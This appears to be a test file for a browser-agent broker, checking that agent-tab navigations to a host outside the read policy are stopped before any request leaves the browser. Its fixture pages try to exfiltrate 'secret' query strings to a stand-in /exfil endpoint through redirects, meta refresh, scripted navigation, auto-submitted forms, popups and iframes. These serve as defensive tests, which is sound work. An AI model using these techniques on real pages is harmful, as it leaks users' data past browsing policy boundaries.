@@ -1,0 +1,295 @@
+// The network boundary for navigations: a navigation request of an agent tab (top frame or frame, every
+// redirect hop, page-started or agent-started) to an origin the read policy refuses is stopped before it is
+// sent. The witness is the refused host's own server: it must see no request at all. Real Chromium with the
+// real extension (declarativeNetRequest) and over CDP (Fetch interception), the real MCP SDK client.
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { WebSocket } from "ws";
+import { findChromium, launchChromium, prepareExtension, type LaunchedBrowser } from "../packages/broker/src/index.js";
+import {
+  allowYaml,
+  article,
+  attachBrowser,
+  browserConnected,
+  call,
+  connectClient,
+  DRIVERS,
+  PAIRING_TOKEN,
+  startBroker,
+  startSite,
+  waitFor,
+  type TestBroker,
+  type TestSite,
+} from "./harness.js";
+
+/** The refused host: "localhost" is outside the test policy (which allows 127.0.0.1). Logs every request. */
+interface Witness {
+  origin: string;
+  requests: string[];
+  close(): Promise<void>;
+}
+
+async function startWitness(): Promise<Witness> {
+  const requests: string[] = [];
+  const server: Server = createServer((req, res) => {
+    requests.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { "Content-Type": "text/html" });
+    res.end("<html><head><title>Refused</title></head><body><p>REFUSED HOST CONTENT</p></body></html>");
+  });
+  await new Promise<void>((resolve) => server.listen(0, "localhost", resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    origin: `http://localhost:${port}`,
+    requests,
+    async close() {
+      server.closeAllConnections();
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    },
+  };
+}
+
+let site: TestSite;
+let witness: Witness;
+
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+beforeAll(async () => {
+  site = await startSite("127.0.0.1");
+  witness = await startWitness();
+  const away = (path: string) => `${witness.origin}${path}`;
+  const html = (title: string, body: string) => `<!doctype html><html><head><title>${title}</title></head><body>${body}</body></html>`;
+  site.route("/article", article("A page that stays", 10, "The closing paragraph."));
+  site.route("/redirect-home", (_req, res) => {
+    res.writeHead(302, { Location: "/article" });
+    res.end();
+  });
+  site.route("/r302", (_req, res) => {
+    res.writeHead(302, { Location: away("/exfil?q=secret-302") });
+    res.end();
+  });
+  // An open redirect: the allowed site sends the tab wherever its query says.
+  site.route("/open-redirect", (req, res) => {
+    const to = new URL(req.url ?? "/", site.origin).searchParams.get("to") ?? "/";
+    res.writeHead(307, { Location: to });
+    res.end();
+  });
+  site.route("/chain-1", (_req, res) => {
+    res.writeHead(307, { Location: "/chain-2" });
+    res.end();
+  });
+  site.route("/chain-2", (_req, res) => {
+    res.writeHead(301, { Location: away("/exfil?q=secret-chain") });
+    res.end();
+  });
+  site.route("/meta", html("Meta", `<meta http-equiv="refresh" content="0;url=${away("/exfil?q=secret-meta")}"><p>Refreshing</p>`));
+  site.route("/script-nav", html("Script", `<p>Leaving soon.</p><script>setTimeout(() => { location.href = ${JSON.stringify(away("/exfil?q=secret-script"))}; }, 200)</script>`));
+  site.route("/script-nav-now", html("Script now", `<p>Leaving now.</p><script>location.replace(${JSON.stringify(away("/exfil?q=secret-now"))})</script>`));
+  site.route("/popup", html("Popup", `<p>Opens a tab.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-popup"))})</script>`));
+  site.route("/popup-late", html("Popup later", `<p>Opens a tab later.</p><script>setTimeout(() => window.open(${JSON.stringify(away("/exfil?q=secret-popup-late"))}), 300)</script>`));
+  site.route("/popup-redirect", html("Popup via redirect", `<p>Opens an allowed URL that redirects away.</p><script>window.open("/r302")</script>`));
+  site.route(
+    "/form",
+    html("Form", `<form id="f" method="post" action="${away("/exfil")}"><input name="q" value="secret-form"></form><script>document.getElementById("f").submit()</script>`),
+  );
+  site.route("/form-get", html("Form GET", `<form id="f" action="${away("/exfil")}"><input name="q" value="secret-form-get"></form><script>setTimeout(() => document.getElementById("f").requestSubmit(), 100)</script>`));
+  site.route("/frames", html("Frames", `<h1>Host page</h1><p>The host page's own words.</p><iframe src="${away("/exfil?q=secret-frame")}"></iframe><iframe src="/frame-inner"></iframe>`));
+  site.route("/frame-inner", html("Inner", `<p>Inner frame text.</p><iframe src="${away("/exfil?q=secret-nested")}"></iframe><iframe src="/frame-redirect"></iframe>`));
+  site.route("/frame-redirect", (_req, res) => {
+    res.writeHead(302, { Location: away("/exfil?q=secret-frame-redirect") });
+    res.end();
+  });
+  site.route("/object", html("Object", `<p>Embeds documents.</p><object data="${away("/exfil?q=secret-object")}" type="text/html"></object><embed src="${away("/exfil?q=secret-embed")}" type="text/html">`));
+  site.route("/frame-later", html("Frame later", `<p>Adds a frame.</p><script>setTimeout(() => { const f = document.createElement("iframe"); f.src = ${JSON.stringify(away("/exfil?q=secret-late-frame"))}; document.body.append(f); }, 200)</script>`));
+  site.route("/frame-srcdoc", html("Srcdoc", `<iframe srcdoc="<p>inside</p><a id=a href='${away("/exfil?q=secret-srcdoc")}'>go</a><script>location.href=document.getElementById('a').href</script>"></iframe>`));
+  site.route("/popup-noopener", html("Popup noopener", `<p>Opens a tab it cannot see.</p><script>window.open(${JSON.stringify(away("/exfil?q=secret-noopener"))}, "_blank", "noopener")</script>`));
+  site.route("/form-blank", html("Form to a new tab", `<form id="f" target="_blank" method="post" action="${away("/exfil")}"><input name="q" value="secret-form-blank"></form><script>document.getElementById("f").submit()</script>`));
+  site.route("/link", html("Link", `<a id="go" href="${away("/exfil?q=secret-link")}" target="_blank">Open</a><script>setTimeout(() => document.getElementById("go").click(), 100)</script>`));
+}, 60_000);
+
+afterAll(async () => {
+  await site?.close();
+  await witness?.close();
+});
+
+describe.each(DRIVERS)("navigation boundary with the %s driver", (driver) => {
+  let broker: TestBroker;
+  let client: Client;
+  let browser: { close(): Promise<void> };
+
+  beforeAll(async () => {
+    broker = await startBroker({ yaml: allowYaml("read:\n  load_timeout_ms: 5000\n") });
+    browser = await attachBrowser(broker, driver);
+    client = await connectClient(broker.url);
+  }, 60_000);
+
+  afterAll(async () => {
+    await client?.close();
+    await browser?.close();
+    await broker?.close();
+  });
+
+  afterEach(async () => {
+    // Whatever a case did, the refused host never heard of it.
+    const heard = witness.requests.splice(0);
+    expect(heard).toEqual([]);
+    const tabs = await call(client, "list_tabs");
+    for (const m of tabs.text.matchAll(/tab (\d+):/g)) await call(client, "close_tab", { tab: Number(m[1]) });
+  });
+
+  it("an allowed redirect still loads (positive control)", async () => {
+    const result = await call(client, "read_url", { url: `${site.origin}/redirect-home` });
+    expect(result.isError).toBe(false);
+    expect(result.text).toContain("The closing paragraph.");
+  });
+
+  it("a 302 from an allowed page to a refused host is stopped before it is sent", async () => {
+    const result = await call(client, "read_url", { url: `${site.origin}/r302` });
+    expect(result.isError).toBe(true);
+    expect(result.text).toContain("policy_denied");
+    expect(result.text).toContain(`${witness.origin}/exfil?q=secret-302`);
+    expect(result.text).toMatch(/stopped the request before it left the browser/);
+  });
+
+  it("an open redirect, a 307 then 301 chain and a meta refresh are stopped", async () => {
+    const open = await call(client, "open_tab", { url: `${site.origin}/open-redirect?to=${encodeURIComponent(`${witness.origin}/exfil?q=secret-open`)}` });
+    expect(open.isError).toBe(true);
+    expect(open.text).toContain("policy_denied");
+    const chain = await call(client, "read_url", { url: `${site.origin}/chain-1` });
+    expect(chain.isError).toBe(true);
+    expect(chain.text).toContain("secret-chain");
+    const meta = await call(client, "read_url", { url: `${site.origin}/meta` });
+    // The refresh may fire before or after the load the call waits for: refused or read, never sent.
+    if (meta.isError) expect(meta.text).toContain("policy_denied");
+    await sleep(500);
+  });
+
+  it("script navigations, form submissions and links the page starts are stopped", async () => {
+    for (const path of ["/script-nav", "/script-nav-now", "/form", "/form-get"]) {
+      const opened = await call(client, "open_tab", { url: `${site.origin}${path}` });
+      // The attempt is reported by the call it happened in, or by the next call on the tab, naming where the
+      // page tried to go.
+      let refusal = opened;
+      if (!opened.isError) {
+        const id = Number(/tab (\d+)/.exec(opened.text)?.[1]);
+        // The tab is left blank once its page's attempt was stopped.
+        await waitFor(`${path}: the tab to be reset`, async () => ((await call(client, "list_tabs")).text.includes(`tab ${id}: «about:blank»`) ? true : undefined));
+        refusal = await call(client, "read_page", { tab: id });
+        await call(client, "close_tab", { tab: id });
+      }
+      expect(refusal.isError, `${path}: ${refusal.text}`).toBe(true);
+      expect(refusal.text).toContain("policy_denied");
+      expect(refusal.text).toContain(`${witness.origin}/exfil`);
+      expect(refusal.text).toMatch(/stopped the request before it left the browser/);
+    }
+  });
+
+  it("window.open and target=_blank links to a refused host send nothing, also from a redirect in the new tab", async () => {
+    for (const path of ["/popup", "/popup-late", "/popup-redirect", "/popup-noopener", "/form-blank", "/link"]) {
+      await call(client, "open_tab", { url: `${site.origin}${path}` });
+      await sleep(800);
+    }
+    const tabs = await call(client, "list_tabs");
+    expect(tabs.text).not.toContain("REFUSED");
+  });
+
+  it("frames, nested frames, frame redirects, late frames, srcdoc frames, <object> and <embed> to a refused host send nothing", async () => {
+    const read = await call(client, "read_url", { url: `${site.origin}/frames`, mode: "full" });
+    expect(read.isError).toBe(false);
+    expect(read.text).toContain("The host page's own words.");
+    expect(read.text).not.toContain("REFUSED HOST CONTENT");
+    for (const path of ["/frame-later", "/frame-srcdoc", "/object"]) {
+      await call(client, "open_tab", { url: `${site.origin}${path}` });
+      await sleep(600);
+    }
+  });
+
+  it("the audit log records each stopped navigation", async () => {
+    await call(client, "read_url", { url: `${site.origin}/r302` });
+    const rows = await waitFor("a navigation record", () => {
+      const found = broker.broker.audit.list({ limit: 1000 }).filter((r) => r.tool === "navigation");
+      return found.length > 0 ? found : undefined;
+    });
+    expect(rows.some((r) => r.decision === "refused" && r.code === "policy_denied" && r.origin === witness.origin)).toBe(true);
+  });
+});
+
+// The user's own tabs are never scoped: a page of theirs navigating or opening a tab to a host the agent may not
+// read works as before, even on a site an agent tab shows at the same time (a new tab that could still have
+// been an agent page's popup is held for a moment, then sent on). Extension only: over CDP tabrelay's own
+// browser has no tabs of the user's, and an attached browser's user tabs are never intercepted.
+describe("the user's tabs with the extension driver", () => {
+  let broker: TestBroker;
+  let client: Client;
+  let browser: LaunchedBrowser;
+  let profileDir: string;
+  let signal = "";
+  /** The user's page polls for what to do next. */
+  const polls: string[] = [];
+
+  beforeAll(async () => {
+    site.route("/signal", (req, res) => {
+      polls.push(`${Date.now()} ${req.url}`);
+      res.writeHead(200, { "Content-Type": "text/plain", "Cache-Control": "no-store" });
+      res.end(signal);
+    });
+    site.route(
+      "/user-start",
+      `<!doctype html><html><head><title>User page</title></head><body><p>The user's own page.</p><script>
+const done = new Set();
+setInterval(async () => {
+  const what = await (await fetch("/signal")).text();
+  if (!what || done.has(what)) return;
+  done.add(what);
+  if (what === "popup") window.open(${JSON.stringify(`${witness.origin}/user-popup`)});
+  if (what === "nav") location.href = ${JSON.stringify(`${witness.origin}/user-nav`)};
+}, 100);
+</script></body></html>`,
+    );
+    broker = await startBroker({ yaml: allowYaml() });
+    profileDir = mkdtempSync(join(tmpdir(), "tabrelay-profile-"));
+    const extensionDir = prepareExtension(profileDir, `ws://127.0.0.1:${broker.port}/bridge`, PAIRING_TOKEN, "test chromium");
+    browser = launchChromium({ chromiumPath: findChromium(), profileDir, extensionDir, headless: true, extraArgs: ["--disable-popup-blocking", "--remote-debugging-port=0"] });
+    await browserConnected(broker);
+    client = await connectClient(broker.url);
+    // The user opens a tab of their own (here through DevTools, which the extension knows nothing about).
+    const active = await waitFor("DevTools to listen", () => {
+      try {
+        return readFileSync(join(profileDir, "DevToolsActivePort"), "utf8").split("\n");
+      } catch {
+        return undefined;
+      }
+    });
+    const devtools = new WebSocket(`ws://127.0.0.1:${active[0]}${active[1]}`);
+    await new Promise((resolve, reject) => devtools.once("open", resolve).once("error", reject));
+    devtools.send(JSON.stringify({ id: 1, method: "Target.createTarget", params: { url: `${site.origin}/user-start` } }));
+    await waitFor("the user's page to load and poll", () => polls.length > 0 || undefined, 20_000);
+    devtools.close();
+  }, 60_000);
+
+  afterAll(async () => {
+    await client?.close();
+    await browser?.kill();
+    await broker?.close();
+    rmSync(profileDir, { recursive: true, force: true });
+  });
+
+  it("a user's page opens a tab and navigates to a host outside the agent's policy, with an agent tab on the same site", async () => {
+    witness.requests.splice(0);
+    const opened = await call(client, "open_tab", { url: `${site.origin}/article` });
+    expect(opened.isError).toBe(false);
+    signal = "popup";
+    await waitFor("the user's popup to reach its host", () => witness.requests.some((r) => r.startsWith("GET /user-popup")) || undefined, 10_000);
+    signal = "nav";
+    await waitFor("the user's navigation to reach its host", () => witness.requests.some((r) => r.startsWith("GET /user-nav")) || undefined, 10_000);
+    // Neither is the agent's.
+    const tabs = await call(client, "list_tabs");
+    expect(tabs.text).not.toContain("localhost");
+    expect(tabs.text).not.toContain("User page");
+    witness.requests.splice(0);
+  });
+});
